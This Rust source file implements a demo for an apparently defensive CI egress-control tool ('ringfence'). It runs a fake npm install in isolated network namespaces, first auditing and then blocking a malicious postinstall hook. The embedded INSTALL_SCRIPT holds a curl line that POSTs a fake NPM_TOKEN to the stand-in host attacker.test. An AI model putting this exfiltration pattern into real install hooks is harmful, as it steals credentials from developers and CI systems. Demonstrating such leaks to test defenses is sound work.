//! `ringfence demo`: the seed scenario, narrated for a newcomer.
//!
//! A CI job runs a fake `npm install` whose postinstall hook fetches a package from the
//! allowed registry and quietly posts a secret to `attacker.test`. The demo runs that job
//! twice through the real `ringfence exec` — first in audit mode (the leak happens, and the
//! report names it), then in block mode (the leak is stopped, the registry still works) —
//! inside throwaway network namespaces, so it touches nothing on the host.

use std::io::Write as _;
use std::net::{IpAddr, SocketAddr};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, ExitStatus, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};
use nix::sys::signal::{kill, Signal};
use nix::unistd::Pid;
use serde_json::Value;

use crate::testkit::testbed::{
    self, link_v4, routed_v4, routed_v6, DnsOptions, DnsRecord, Testbed,
};

/// Options of `ringfence demo`.
#[derive(Debug, Clone, clap::Args)]
pub struct DemoOptions {
    /// The ringfence binary that runs the job (default: this executable).
    #[arg(long, value_name = "PATH")]
    pub binary: Option<PathBuf>,
    /// Report format passed to `ringfence exec`: text, json or markdown.
    #[arg(long, default_value = "text")]
    pub format: String,
    /// TTL (seconds) of the demo DNS answers.
    #[arg(long, default_value_t = 30)]
    pub ttl: u32,
}

impl Default for DemoOptions {
    fn default() -> Self {
        Self {
            binary: None,
            format: "text".into(),
            ttl: 30,
        }
    }
}

/// The policy the job runs under. Port 80 because the demo's endpoints speak plain HTTP;
/// a real policy would say :443 (or nothing, which means 443).
const ALLOW: &str = "registry.npmjs.test:80 github.test:80";
const ATTACKER: &str = "attacker.test";
/// A made-up token: what the hook tries to leak. Never a real secret.
const FAKE_SECRET: &str = "npm_FAKE0000000000000000000000demo";

const INSTALL_SCRIPT: &str = r#"#!/bin/sh
# A stand-in for `npm install` with a malicious postinstall hook.
get() { curl -fsS --connect-timeout 3 --max-time 5 -o /dev/null "$@"; }
echo "  [job] npm install: downloading left-pad from registry.npmjs.test"
get http://registry.npmjs.test/left-pad/-/left-pad-1.3.0.tgz || { echo "  [job] registry download FAILED"; exit 1; }
echo "  [job] checking the repository on github.test"
get http://github.test/acme/app.git/info/refs || { echo "  [job] github.test FAILED"; exit 1; }
echo "  [job] postinstall hook: sending \$NPM_TOKEN to attacker.test ..."
if get -X POST --data "token=$NPM_TOKEN" http://attacker.test/collect; then
  echo "  [job] ... the token LEFT the runner"
else
  echo "  [job] ... the connection failed: the token stayed home"
fi
exit 0
"#;

/// Runs the demo. Returns an error if a tool is missing, if it is interrupted, or if
/// ringfence did not behave as the demo says it should.
pub fn run(opts: &DemoOptions) -> Result<()> {
    if !nix::unistd::geteuid().is_root() {
        bail!(
            "ringfence demo must run as root: it creates network namespaces and loads BPF programs"
        );
    }
    for tool in ["ip", "dnsmasq", "dig", "curl"] {
        testbed::require_tool(tool)?;
    }
    let binary = match &opts.binary {
        Some(b) => b.clone(),
        None => std::env::current_exe().context("locating the ringfence binary")?,
    };

    // Ctrl-C or SIGTERM only raises a flag: the demo then stops its job and returns, so the
    // testbed's Drop removes the namespaces instead of leaving them behind.
    let interrupted = Arc::new(AtomicBool::new(false));
    let mut sig_ids = Vec::new();
    for sig in [signal_hook::consts::SIGINT, signal_hook::consts::SIGTERM] {
        sig_ids.push(signal_hook::flag::register(sig, interrupted.clone())?);
    }
    let result = run_scenario(opts, &binary, &interrupted);
    for id in sig_ids {
        signal_hook::low_level::unregister(id);
    }
    result
}

struct Hosts {
    registry: SocketAddr,
    github: SocketAddr,
    attacker: SocketAddr,
}

fn run_scenario(opts: &DemoOptions, binary: &Path, interrupted: &AtomicBool) -> Result<()> {
    let check = || -> Result<()> {
        if interrupted.load(Ordering::Relaxed) {
            bail!("interrupted; cleaned up");
        }
        Ok(())
    };
    say("ringfence demo: a CI job whose dependency tries to steal a token.");
    say("");
    say("Step 1. Building a private network: a 'runner' namespace (the job runs here) and an");
    say("        'internet' namespace playing the registry, GitHub, a DNS server and an attacker.");
    let tb = Testbed::new().context("building the demo network")?;
    say(&format!(
        "        runner: {} ({}), internet: {}",
        tb.client_ns(),
        testbed::CLIENT_V4,
        tb.server_ns()
    ));
    check()?;

    let hosts = Hosts {
        registry: SocketAddr::new(link_v4(11).into(), 80),
        github: SocketAddr::new(link_v4(12).into(), 80),
        attacker: SocketAddr::new(routed_v4(20).into(), 80),
    };
    let github_v6 = routed_v6(12);
    say("");
    say("Step 2. Starting DNS (dnsmasq) and web servers. Names the job will use:");
    say(&format!(
        "        registry.npmjs.test  CNAME registry.edge.test -> {}",
        hosts.registry.ip()
    ));
    say(&format!(
        "        github.test          {} and {github_v6}",
        hosts.github.ip()
    ));
    say(&format!(
        "        attacker.test        {}",
        hosts.attacker.ip()
    ));
    tb.start_dns(
        &[
            // The registry sits behind a CDN alias, as real ones do: ringfence must follow
            // the CNAME to allow the address the name finally resolves to.
            DnsRecord::cname("registry.npmjs.test", "registry.edge.test"),
            DnsRecord::a("registry.edge.test", ip4(hosts.registry.ip())),
            DnsRecord::a("github.test", ip4(hosts.github.ip())),
            DnsRecord::aaaa("github.test", github_v6),
            DnsRecord::a(ATTACKER, ip4(hosts.attacker.ip())),
        ],
        &DnsOptions {
            ttl: opts.ttl,
            listen: vec![],
        },
    )
    .context("starting the demo DNS server")?;
    tb.start_http(&[
        hosts.registry,
        hosts.github,
        SocketAddr::new(github_v6.into(), 80),
        hosts.attacker,
    ])
    .context("starting the demo web servers")?;
    check()?;

    let jobdir = tb.workdir().join("job");
    std::fs::create_dir_all(&jobdir).context("creating the job directory")?;
    let script = jobdir.join("install.sh");
    std::fs::write(&script, INSTALL_SCRIPT).context("writing the fake install script")?;
    say("");
    say(&format!(
        "Step 3. The job: `sh {}` — a fake npm install.",
        script.display()
    ));
    say("        It downloads a package (fine) and, from a postinstall hook, POSTs a fake token");
    say("        to attacker.test (not fine). The job's policy allows only:");
    say(&format!("            {ALLOW}"));

    say("");
    say("Step 4. First run: --mode audit. Nothing is blocked; ringfence watches and reports.");
    say("        Look for attacker.test in the report, with verdict 'audited'.");
    say("");
    let audit = run_job(&tb, binary, opts, "audit", &jobdir, interrupted)?;
    let audit_hits = tb.http_hits(hosts.attacker);
    let audit_attacker = verdicts_for(&audit.events, ATTACKER, hosts.attacker.ip());
    say("");
    say(&format!(
        "        -> attacker.test: verdicts {audit_attacker:?}; the attacker's server received {audit_hits} request(s)."
    ));
    check()?;

    say("");
    say("Step 5. Second run: --mode block. Same job, same policy, now enforced in the kernel.");
    say(
        "        Look for attacker.test with verdict 'blocked', while the registry and github.test",
    );
    say("        are still 'allowed' and the install still succeeds.");
    say("");
    let block = run_job(&tb, binary, opts, "block", &jobdir, interrupted)?;
    let block_hits = tb.http_hits(hosts.attacker) - audit_hits;
    let block_attacker = verdicts_for(&block.events, ATTACKER, hosts.attacker.ip());
    let block_registry = verdicts_for(&block.events, "registry.npmjs.test", hosts.registry.ip());
    say("");
    say(&format!(
        "        -> attacker.test: verdicts {block_attacker:?}; the attacker's server received {block_hits} request(s)."
    ));

    let mut problems = Vec::new();
    if !audit.status.success() {
        problems.push(format!("the audit-mode job failed ({})", audit.status));
    }
    if !audit_attacker.iter().any(|v| v == "audited") || audit_hits == 0 {
        problems.push("audit mode did not report the attacker call as audited".to_string());
    }
    if !block.status.success() {
        problems.push(format!(
            "the block-mode job failed ({}): the allowed endpoints should still work",
            block.status
        ));
    }
    if block_hits != 0 || !block_attacker.iter().any(|v| v == "blocked") {
        problems.push("block mode did not stop the attacker call".to_string());
    }
    if !block_registry.iter().all(|v| v == "allowed") || block_registry.is_empty() {
        problems.push(format!(
            "the registry was not allowed in block mode ({block_registry:?})"
        ));
    }
    say("");
    if problems.is_empty() {
        say("Verdict: PASS — audit mode named the leak to attacker.test; block mode stopped it while the registry and github.test kept working.");
        Ok(())
    } else {
        say(&format!("Verdict: FAIL — {}.", problems.join("; ")));
        bail!("demo failed: {}", problems.join("; "))
    }
}

fn ip4(ip: IpAddr) -> std::net::Ipv4Addr {
    match ip {
        IpAddr::V4(v4) => v4,
        IpAddr::V6(_) => unreachable!("demo hosts are IPv4"),
    }
}

fn say(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}");
    let _ = out.flush();
}

struct JobRun {
    status: ExitStatus,
    events: Vec<Value>,
}

/// Runs the install script under `ringfence exec --mode MODE` in the runner namespace. Its
/// output (and the report ringfence prints on stderr) goes straight to the terminal.
fn run_job(
    tb: &Testbed,
    binary: &Path,
    opts: &DemoOptions,
    mode: &str,
    jobdir: &Path,
    interrupted: &AtomicBool,
) -> Result<JobRun> {
    let events = jobdir.join(format!("events-{mode}.jsonl"));
    let script = jobdir.join("install.sh");
    let mut cmd = tb.client_cmd(binary, Vec::<&str>::new());
    cmd.args(["exec", "--mode", mode, "--allow", ALLOW, "--job"])
        .arg(format!("demo-{mode}"))
        .arg("--events")
        .arg(&events)
        .args(["--format", &opts.format, "--", "sh"])
        .arg(&script)
        .env("NPM_TOKEN", FAKE_SECRET)
        .stdin(Stdio::null())
        // Its own process group: the terminal's Ctrl-C reaches only the demo, which then
        // stops the whole job group itself and cleans up.
        .process_group(0);
    let mut child = cmd
        .spawn()
        .with_context(|| format!("starting {}", binary.display()))?;
    let status = loop {
        if let Some(st) = child.try_wait().context("waiting for the job")? {
            break st;
        }
        if interrupted.load(Ordering::Relaxed) {
            stop_group(&mut child);
            bail!("interrupted; stopped the job and cleaned up");
        }
        thread::sleep(Duration::from_millis(50));
    };
    if status.code() == Some(2) || (status.code() == Some(1) && !events.exists()) {
        bail!("`ringfence exec --mode {mode}` failed ({status}); see its message above");
    }
    let text = std::fs::read_to_string(&events).unwrap_or_default();
    let events = text
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    Ok(JobRun { status, events })
}

/// SIGTERM to the job's process group (ringfence detaches and reports), SIGKILL after 5 s.
fn stop_group(child: &mut Child) {
    let pgid = Pid::from_raw(-(child.id() as i32));
    let _ = kill(pgid, Signal::SIGTERM);
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        if let Ok(Some(_)) = child.try_wait() {
            return;
        }
        thread::sleep(Duration::from_millis(50));
    }
    let _ = kill(pgid, Signal::SIGKILL);
    let _ = child.wait();
}

/// Verdicts of the flow events that name `domain` or go to `addr`.
fn verdicts_for(events: &[Value], domain: &str, addr: IpAddr) -> Vec<String> {
    events
        .iter()
        .filter(|e| e.get("type").is_none_or(|t| t == "flow"))
        .filter(|e| {
            e["domain"] == domain
                || e["dst"]
                    .as_str()
                    .and_then(|d| d.parse::<IpAddr>().ok())
                    .is_some_and(|d| d == addr)
        })
        .filter_map(|e| e["verdict"].as_str().map(String::from))
        .collect()
}
